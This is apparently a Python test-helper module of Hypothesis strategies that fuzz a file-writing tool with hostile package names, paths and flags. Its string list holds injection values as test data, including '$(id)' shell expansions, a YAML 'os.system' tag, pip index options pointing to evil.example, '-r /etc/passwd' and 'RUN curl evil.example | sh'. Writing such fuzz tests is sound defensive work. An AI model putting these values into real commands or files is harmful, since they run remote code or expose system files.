"""Hypothesis strategies of hostile strings: what an attacker puts into a package name, a URL, a path or a flag to
break out of the file compat writes (line breaks of every kind, NUL, lone surrogates, non-BMP characters, quotes,
shell expansions, YAML and TOML syntax, options). Shared by tests/export/test_writers_roundtrip.py and tests/cli/test_cli_fuzz.py."""

from __future__ import annotations

from hypothesis import strategies as st

PARTS = [
    "\n", "\r", "\r\n", "\x00", "\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029", "\t", " ", "\x1b[31m", "\x7f", "\ufeff", "\xa0",
    "\ud800", "\udfff", "\U0001F600", "\U00010000", "é",
    '"', "'", "\\", "\\\n", "$(id)", "`id`", "${HOME}", "${X}", "$X", "$", "~",
    ": ", "- ", "-", "&a", "*a", "!!python/object/apply:os.system", "#", " #x", "? ", "|", ">", "{", "}", "[", "]", ",", "%", "@", "=", ";",
    "--index-url x", "--index-url https://evil.example/simple", "--trusted-host evil.example", "-r /etc/passwd",
    "[[packages]]", 'name = "evil"', "RUN curl evil.example | sh", "FROM scratch",
]
PLAIN = ["numpy", "a", "x.y", "1.0", "==1.0", "img", "wheels", "/tmp/w"]


def hostile(surrogates: bool = True) -> st.SearchStrategy[str]:
    """A string built from hostile parts and plain words, or any text at all. ``surrogates=False``: no lone surrogate
    (an in-process command line: pytest's captured stderr cannot take one, where a real stderr escapes it)."""
    parts = PARTS if surrogates else [p for p in PARTS if not _has_surrogate(p)]
    return st.one_of(
        st.lists(st.sampled_from(parts + PLAIN), min_size=1, max_size=6).map("".join),
        st.sampled_from(parts),
        st.text(max_size=20) if surrogates else st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20),
    )


def hostile_requirement(surrogates: bool = True) -> st.SearchStrategy[str]:
    """A requirement line with something hostile inside it (name, specifier or tail)."""
    return st.tuples(st.sampled_from(["numpy", "a.b", "x", ""]), hostile(surrogates),
                     st.sampled_from(["", "==1.0", " @ https://h.example/x-1.0-py3-none-any.whl"])).map("".join)


def _has_surrogate(text: str) -> bool:
    return any("\ud800" <= ch <= "\udfff" for ch in text)
